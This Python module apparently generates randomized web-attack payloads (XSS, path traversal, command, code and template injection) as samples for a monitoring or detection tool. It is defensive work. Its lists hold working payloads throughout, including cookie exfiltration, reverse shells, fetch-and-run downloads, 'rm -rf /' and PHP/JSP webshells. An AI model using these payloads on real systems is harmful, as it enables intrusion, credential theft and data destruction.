"""Attacks on web applications but SQL injection, family by family, for `api-watch`.

Written from scratch as small grammars: each function draws one payload. Names, addresses and
numbers are random, so that nothing but the shape of an attack repeats.
"""

import base64
import string

from .sql_values import number, pick, word


def num(rng, most=99999):
    return str(rng.randint(1, most))


def tag(rng):
    letters = string.ascii_letters + string.digits
    return "".join(pick(rng, letters) for _ in range(rng.randint(2, 9)))


def address(rng):
    dotted = ".".join(str(rng.randint(1, 254)) for _ in range(4))
    host = f"{word(rng)}.{pick(rng, ['com', 'net', 'xyz', 'cn', 'ru', 'io', 'top', 'dev'])}"
    return pick(rng, [dotted, host, f"{dotted}:{rng.randint(80, 65000)}", f"{tag(rng)}.{host}"])


def some(rng, template):
    """Fills `{w}` words, `{t}` tags, `{n}` numbers, `{a}` addresses, `{c}` commands."""
    for key, make in (("{c}", command_word), ("{a}", address), ("{t}", tag), ("{n}", num)):
        while key in template:
            template = template.replace(key, make(rng), 1)
    while "{w}" in template:
        template = template.replace("{w}", word(rng), 1)
    return template


CALLS = """alert(1)|alert({n})|alert('{t}')|alert("XSS")|alert(document.cookie)|prompt(1)|confirm(1)
|alert`1`|confirm`{n}`|(alert)(1)|top['al'+'ert'](1)|window['alert'](1)|self[`alert`](1)|eval('{t}')
|eval(atob('YWxlcnQoMSk='))|eval(name)|eval(location.hash.slice(1))|location='//{a}'
|document.location='http://{a}/?c='+document.cookie|new Image().src='//{a}/'+document.cookie
|fetch('//{a}/'+document.cookie)|String.fromCharCode(88,83,83)|alert(String.fromCharCode(88,83,83))
|document.write('<b>{t}</b>')|document.body.innerHTML='{w}'|import('//{a}')|$.getScript('//{a}')
|setTimeout('alert(1)',1)|setTimeout(alert,0)|Function('alert(1)')()|[].map.constructor('alert(1)')()
|window.open('//{a}')|parent.alert(1)|print()|console.log({n})|throw onerror=alert,{n}
|{onerror=alert}throw 1|onerror=alert;throw 1|alert(window.origin)|alert(/{t}/.source)|alert(/XSS/)
|\\u0061lert(1)|al\\u0065rt(1)|javascript:alert(1)|this.constructor.constructor('alert(1)')()
|document['cookie']|localStorage.getItem('{w}')|XMLHttpRequest()|navigator.sendBeacon('//{a}',1)
|alert(1)//|a=alert;a(1)|[1].find(alert)|Reflect.apply(alert,1,[1])|alert&lpar;1&rpar;""".replace(
    "\n", ""
).split("|")
TAGS = """img svg body iframe input video audio details marquee object embed a div p b span math
 button select textarea form isindex style xss table td x image keygen meter source bgsound frameset
 noscript animate set link base title template dialog h1""".split()
EVENTS = """onerror onload onclick onmouseover onfocus ontoggle onstart onmouseenter onpageshow
 onanimationstart onbegin onpointerover onpointerenter onkeyup onkeydown onsubmit onresize
 oncanplay onloadstart onblur onchange oninput ondrag oncopy onpaste onscroll onwheel onplay
 onfinish onhashchange onmessage ontransitionend onreadystatechange onbeforeunload oncut
 onafterprint onauxclick ondblclick onmousedown onsearch onwebkitanimationend""".split()
BREAKS = [
    "",
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "`",
    "]]>",
    "</style>",
    '"/>',
    "';",
    '";',
    "*/",
    "\\'",
    '\\"',
    '" ',
    "' ",
    "</noscript>",
    ">",
]


def xss(rng):
    call = some(rng, pick(rng, CALLS))
    quote = pick(rng, ["", "'", '"', "`"]) if "'" not in call else pick(rng, ["", '"'])
    gap = pick(rng, [" ", " ", " ", "/", "\t", "\n", "/**/", "\x0c", "  "])
    near = pick(rng, ["", "", " "])
    event = pick(rng, EVENTS)
    attr = f"{event}{near}={near}{quote}{call}{quote}"
    element = pick(rng, TAGS)
    extra = pick(
        rng,
        [
            "",
            "",
            "src=x ",
            "src=1 ",
            f"id={tag(rng)} ",
            "autofocus ",
            "open ",
            "href=# ",
            f'src="{tag(rng)}" ',
            f"style=width:{num(rng)}px ",
            "controls ",
            "loop=1 ",
        ],
    )
    end = pick(rng, [">", ">", "/>", "", "//", f">{word(rng)}</{element}>", ">//", " x=", "<!--"])
    scheme = pick(
        rng,
        [
            "javascript",
            "javascript",
            "JaVaScRiPt",
            "java\tscript",
            "vbscript",
            "java\nscript",
            "javascript&colon;",
            "data",
        ],
    )
    forms = [
        lambda: f"<script>{call}</script>",
        lambda: f"<script>{call}</script>",
        lambda: f"<script>{call}",
        lambda: (
            f"<script src={quote}{pick(rng, ['//', 'http://', 'https://'])}{address(rng)}/{word(rng)}"
            f"{pick(rng, ['.js', '', '?' + tag(rng)])}{quote}></script>"
        ),
        lambda: (
            f"<script{gap}{pick(rng, ['type=text/javascript', 'defer', 'x', 'async'])}>{call}"
            f"</script{pick(rng, ['', ' '])}>"
        ),
        lambda: f"<{element}{gap}{extra}{attr}{end}",
        lambda: f"<{element}{gap}{extra}{attr}{end}",
        lambda: f"<{element}{gap}{extra}{attr}{end}",
        lambda: f"<{element}{gap}{attr} {extra}{end}",
        lambda: f"<a href={quote}{scheme}:{call}{quote}>{word(rng)}</a>",
        lambda: f"<iframe src={quote}{scheme}:{call}{quote}>",
        lambda: f"<form action={quote}{scheme}:{call}{quote}><input type=submit>",
        lambda: f"<svg><script>{call}</script></svg>",
        lambda: f"<svg><animate {event}={call} attributeName=x dur=1s>",
        lambda: f"<math><a xlink:href={scheme}:{call}>{word(rng)}",
        lambda: f"<object data={scheme}:{call}>",
        lambda: f"<meta http-equiv=refresh content='0;url={scheme}:{call}'>",
        lambda: f"<style>@import '{scheme}:{call}';</style>",
        lambda: f'<div style="width:expression({call})">',
        lambda: f'<div style="background:url({scheme}:{call})">',
        lambda: f"<iframe srcdoc='<script>{call}</script>'>",
        lambda: (
            f"{pick(rng, [chr(39), chr(34)])}{pick(rng, ['-', ';', '+', '),', '||', '*'])}{call}"
            f"{pick(rng, ['-', ';//', '+', '//', '||'])}{pick(rng, [chr(39), chr(34), ''])}"
        ),
        lambda: f'" {extra}{attr} x="',
        lambda: f"' {attr} '",
        lambda: f'{tag(rng)}" {attr}',
        lambda: f"{scheme}:{call}",
        lambda: f"{scheme}:{pick(rng, ['//%0a', '/*', ''])}{call}",
        lambda: (
            f"data:text/html;base64,{base64.b64encode(f'<script>{call}</script>'.encode()).decode()}"
        ),
        lambda: f"data:text/html,<script>{call}</script>",
        lambda: f"<base href=//{address(rng)}>",
        lambda: f"<link rel=stylesheet href=//{address(rng)}/{word(rng)}.css>",
        lambda: f"<scr<script>ipt>{call}</scr</script>ipt>",
        lambda: f"<ScRiPt >{call}</ScRiPt>",
        lambda: f"<script>{call}</script>"[1:],
        lambda: f"[{word(rng)}]({scheme}:{call})",
        lambda: f"<!--><script>{call}</script>-->",
        lambda: f"<xml><i><![CDATA[<img src=x onerror={call}>]]></i></xml>",
        lambda: f"<embed src=//{address(rng)}/{word(rng)}.swf allowscriptaccess=always>",
        lambda: f'<img src="{scheme}:{call}">',
        lambda: f"<img src=x:{call} {event}=eval(src)>",
        lambda: f'<body background="{scheme}:{call}">',
        lambda: f"<isindex type=image src=1 {attr}>",
        lambda: f"<{element} {event}={call}",
        lambda: f'<img """><script>{call}</script>">',
    ]
    lead = pick(rng, ["", "", "", word(rng), num(rng), tag(rng) + " "])
    return lead + pick(rng, BREAKS) + pick(rng, forms)()


FILES = """/etc/passwd|/etc/shadow|/etc/hosts|/etc/group|/etc/issue|/proc/self/environ|/proc/version
|/proc/self/cmdline|/proc/self/fd/{n}|/var/log/apache2/access.log|/var/log/nginx/error.log|/etc/my.cnf
|/root/.ssh/id_rsa|/home/{w}/.ssh/authorized_keys|/root/.bash_history|/var/www/html/config.php|boot.ini
|windows/win.ini|winnt/win.ini|windows/system32/drivers/etc/hosts|WEB-INF/web.xml|.env|wp-config.php
|config/database.yml|etc/nginx/nginx.conf|etc/apache2/apache2.conf|windows/system.ini|web.config
|/etc/ssh/sshd_config|var/lib/mlocate/mlocate.db|/usr/local/apache/conf/httpd.conf|/etc/crontab
|inetpub/wwwroot/web.config|WINDOWS/repair/sam|/var/run/secrets/kubernetes.io/serviceaccount/token
|tmp/{t}|/etc/{w}.conf|{w}.php|index.php|{w}/{w}.xml|/dev/null|/etc/resolv.conf|etc/profile
|/opt/{w}/conf/{w}.properties|application.yml|conf/server.xml|conf/tomcat-users.xml""".replace(
    "\n", ""
).split("|")


def traversal(rng):
    file = some(rng, pick(rng, FILES))
    up = pick(
        rng,
        ["../"] * 8
        + [
            "..\\",
            "....//",
            "..;/",
            "..%2f",
            "%2e%2e/",
            "..%5c",
            "%2e%2e%2f",
            "..%252f",
            "..%c0%af",
            "..%255c",
            ".%2e/",
            "..//",
            "../\\",
            "./../",
            "..%u2215",
            "..\\/",
            "/%5c..",
            "..%00/",
            "....\\\\",
            "..././",
            "%c0%ae%c0%ae/",
            "..%ef%bc%8f",
            "/..",
            "\\..\\",
        ],
    )
    steps = up * rng.randint(1 if len(file) > 7 else 3, 12)
    if "\\" in up and rng.random() < 0.7:
        file = file.replace("/", "\\")
    start = pick(
        rng,
        [
            "",
            "",
            "",
            "/",
            word(rng) + "/",
            "./",
            "/" + word(rng) + "/",
            "file=",
            "\\",
            f"{word(rng)}.{pick(rng, ['php', 'html', 'jpg'])}/",
        ],
    )
    end = pick(
        rng,
        [
            "",
            "",
            "",
            "",
            "%00",
            "\0",
            "%00.jpg",
            "\0.html",
            "%2500",
            "?",
            "#",
            "/.",
            ".html",
            ";.css",
            "%23",
            "{{",
        ],
    )
    if rng.random() < 0.2 and file.startswith("/"):
        return pick(rng, ["", "", "file://", "//", "/."]) + file + end
    return start + steps + file.lstrip("/\\") + end


COMMANDS = """id|whoami|ls|ls -la|ls -la /|cat /etc/passwd|uname -a|ifconfig|ipconfig /all|netstat -an
|ping -c {n} {a}|ping -n 3 127.0.0.1|sleep 5|sleep {n}|nslookup {t}.{a}|dig {a}|curl http://{a}/{w}
|curl http://{a}/`whoami`|wget http://{a}/{w}.sh -O /tmp/{t}|wget {a}|nc -e /bin/sh {a} {n}
|nc {a} {n}|bash -i >& /dev/tcp/{a}/{n} 0>&1|echo {t}|echo {n}|echo $((1+{n}))|expr {n} + {n}
|python -c 'import os;os.system("id")'|perl -e 'print {n}'|php -r 'phpinfo();'|dir|dir c:\\|type c:\\boot.ini
|net user|net user {w} {t} /add|systeminfo|tasklist|powershell -enc {t}|powershell IEX(iwr {a})
|certutil -urlcache -f http://{a}/{w}.exe|rm -rf /tmp/{w}|rm -rf /|chmod 777 {w}|touch /tmp/{t}
|cat /etc/hosts|cat /flag|head /etc/passwd|tac /etc/passwd|ps aux|env|set|printenv|pwd|w|hostname
|/bin/cat /etc/passwd|/bin/ls|/usr/bin/id|/bin/sh -c id|cmd /c dir|cmd.exe /c whoami|ver|date
|busybox wget {a}/{w}|tftp -g -r {w} {a}|cd /tmp;wget http://{a}/{w};chmod 777 {w};./{w}
|cat${IFS}/etc/passwd|{cat,/etc/passwd}|c'a't /etc/passwd|w\\hoami|cat$IFS$9/etc/passwd|/???/c?t /etc/p?sswd
|base64 -d|xxd|awk '{print $1}' /etc/passwd|find / -name {w}|grep -r {w} /etc|mail {w}@{a}|reboot
|kill -9 {n}|crontab -l|sudo -l|su root|mkfifo /tmp/{t}|telnet {a} {n}|socat tcp:{a}:{n} exec:sh
|echo '<?php {w}' > {w}.php|print {n}*{n}|timeout {n}|start {w}.exe|copy {w} {w}|del {w}""".replace(
    "\n", ""
).split("|")


def command_word(rng):
    text = pick(rng, COMMANDS)
    for key, make in (("{a}", address), ("{t}", tag), ("{n}", lambda r: num(r, 99)), ("{w}", word)):
        while key in text:
            text = text.replace(key, make(rng), 1)
    return text


def command(rng):
    text = command_word(rng)
    start = pick(
        rng, ["", num(rng), "127.0.0.1", word(rng), f"{word(rng)}.jpg", address(rng), "-1"]
    )
    forms = [
        f"{start};{text}",
        f"{start}; {text}",
        f"{start}|{text}",
        f"{start} | {text}",
        f"{start}||{text}",
        f"{start}&&{text}",
        f"{start} && {text}",
        f"{start}&{text}",
        f"{start}`{text}`",
        f"{start}$({text})",
        f"{start}\n{text}",
        f"{start}\r\n{text}\r\n",
        f";{text};",
        f"|{text}|",
        f"& {text} &",
        f"';{text};'",
        f'";{text};"',
        f"'|{text}|'",
        f"'`{text}`'",
        f"$({text})",
        f"`{text}`",
        f"{start};{text}#",
        f"{start};{text} #",
        f"{start}%0a{text}",
        f"a);{text};",
        f"() {{ :; }}; {text}",
        f"() {{ :;}}; echo; {text}",
        f"{start}'&&{text}&&'",
        f"<{start}|{text}",
        f"|| {text} ||",
        f"{start}\t;{text}",
        f"${{@system('{text}')}}",
        f'";{text}|',
        f"/{text}",
        f"!{text}",
        f'&lt;!--#exec cmd="{text}"-->',
    ]
    return pick(rng, forms)


CODE = """phpinfo()|phpinfo();|<?php phpinfo();?>|<?php echo md5({n});?>|<?php @eval($_POST['{t}']);?>
|<?=`$_GET[{n}]`?>|<?php system($_GET['{w}']); ?>|eval($_POST[{t}])|assert($_REQUEST['{t}'])
|print(md5({n}));|die(md5({n}))|${@print(md5({n}))}|{${phpinfo()}}|<?php file_put_contents('{w}.php','{t}');?>
|;phpinfo();|';phpinfo();//|system('{c}');|passthru('{c}')|shell_exec('{c}')|`{c}`|exec('{c}')
|<?php $f=base64_decode('{t}{t}');eval($f);?>|base64_decode('{t}{t}=')|create_function('','{w}');
|call_user_func_array('system',['{c}'])|call_user_func('assert','phpinfo()')|preg_replace('/.*/e','phpinfo()','')
|<%Runtime.getRuntime().exec(request.getParameter("{w}"));%>|<% out.println({n}*{n}); %>
|<%eval request("{t}")%>|<%@ Page Language="Jscript"%><%eval(Request.Item["{t}"],"unsafe");%>
|<%@page import="java.io.*"%><% Process p=Runtime.getRuntime().exec("{c}"); %>|<%=system("{c}")%>
|<script language="php">phpinfo();</script>|<?php include($_GET['{w}']);?>|<?php echo '{t}';unlink(__FILE__);?>
|__import__('os').system('{c}')|__import__('os').popen('{c}').read()|exec("import os;os.system('{c}')")
|os.system('{c}')|subprocess.check_output('{c}',shell=True)|require('child_process').exec('{c}')
|global.process.mainModule.require('child_process').execSync('{c}')|process.exit()
|Runtime.getRuntime().exec("{c}")|new java.lang.ProcessBuilder("{c}").start()|T(java.lang.Runtime).getRuntime().exec('{c}')
|java.lang.Runtime.getRuntime().exec("{c}")|new ActiveXObject("WScript.Shell").Run("{c}")|response.write({n}*{n})
|response.write({n}&{n})|../../../../{w}.php?cmd={c}|-d allow_url_include=on -d auto_prepend_file=php://input
|?-d+allow_url_include=on|GIF89a<?php eval($_POST[{t}]);?>|<?php $_GET[0]($_GET[1]);?>|sleep(5);//
|gzinflate(base64_decode('{t}'))|array_map('assert',array($_POST['{t}']))|print_r(scandir('/'))|var_dump({n})
|index/\\think\\app/invokefunction|\\think\\Request/input&filter=phpinfo&data=1|echo {n}*{n};|ini_set('{w}',1)
|<?php class G{function run($p){@eval($p);}} (new G)->run($_REQUEST['{t}']);?>|fputs(fopen('{w}.php','w'),'{t}')
|<?php if(md5($_GET['{w}'])=='{t}'){system($_GET['{t}']);} ?>|move_uploaded_file($_FILES['{w}']['tmp_name'],'{w}')
|<jsp:scriptlet>Runtime.getRuntime().exec("{c}")</jsp:scriptlet>|Class.forName("java.lang.Runtime")
|<%! class U extends ClassLoader{ U(ClassLoader c){super(c);} }%>|set /a {n}*{n}|@ini_set("display_errors","0");@set_time_limit(0);
|new Function("return process")().mainModule.require("fs")|`ruby -e 'puts {n}'`|open('/etc/passwd').read()
|File.open('/etc/passwd').read|system("{c}")|eval("1+{n}")|IO.popen('{c}')|load_file('{w}')""".replace(
    "\n", ""
).split("|")


def code(rng):
    return some(rng, pick(rng, CODE))


EXPRESSIONS = """7*7|{n}*{n}|config|config.items()|self|request.application.__globals__|''.__class__.__mro__[1].__subclasses__()
|''.__class__.__base__.__subclasses__()[{n}]|lipsum.__globals__['os'].popen('{c}').read()|_self.env.registerUndefinedFilterCallback('exec')
|cycler.__init__.__globals__.os.popen('{c}').read()|request['application']['__globals__']|''['__cla'+'ss__']
|constructor.constructor('alert(1)')()|['id']\\|filter('system')|app.request.server.all\\|join(',')|dump(app)|settings.SECRET_KEY
|T(java.lang.Runtime).getRuntime().exec('{c}')|new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{c}').getInputStream()).next()
|''.getClass().forName('java.lang.Runtime')|#this.getClass().forName('java.lang.Runtime')|"freemarker.template.utility.Execute"?new()('{c}')
|#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS|(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{c}')|#context['xwork.MethodAccessor.denyMethodExecution']=false
|@java.lang.Runtime@getRuntime().exec('{c}')|(new ProcessBuilder('{c}')).start()|system('{c}')|`{c}`|{n}+{n}|'a'.toUpperCase()
|session.getAttribute('{w}')|applicationScope|pageContext.request.getSession()|php_uname()|range.constructor("return process")()
|#a=new java.lang.ProcessBuilder('{c}')|request.class.classLoader|''.class.forName('{w}')|7*'7'|__import__('os').popen('{c}')
|get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()|joiner.__init__.__globals__|namespace.__init__
|env|user.password|root.process.mainModule.require('child_process')""".replace("\n", "").split("|")


def template(rng):
    text = some(
        rng,
        pick(rng, EXPRESSIONS).replace("\\", "|") if rng.random() < 0.5 else pick(rng, EXPRESSIONS),
    )
    gap = pick(rng, ["", "", " "])
    opens = pick(
        rng,
        [
            "{{}}",
            "{{}}",
            "{{}}",
            "${}",
            "${}",
            "#{}",
            "%{}",
            "*{}",
            "<%=%>",
            "{%%}",
            "@{}",
            "${{}}",
            "[[${}]]",
            "__${}__::.x",
            "{{=}}",
            "{}",
            "<#assign x=>",
            "{{}}{{}}",
            "~{}",
        ],
    )
    if opens == "<#assign x=>":
        return f"<#assign ex={text}>${{ex('{command_word(rng)}')}}"
    if opens == "{%%}":
        return f"{{%{gap}{pick(rng, ['if ', 'set x=', 'for c in ', 'import ', 'print(', 'include '])}{text}{gap}%}}"
    if opens == "__${}__::.x":
        return f"__${{{text}}}__::.x"
    if opens == "{{}}{{}}":
        return f"{{{{{num(rng)}*{num(rng)}}}}}"
    middle = len(opens) // 2
    lead = pick(rng, ["", "", "", word(rng), '"', "'", "redirect:", "(", "%"])
    return lead + opens[:middle] + gap + text + gap + opens[middle:]
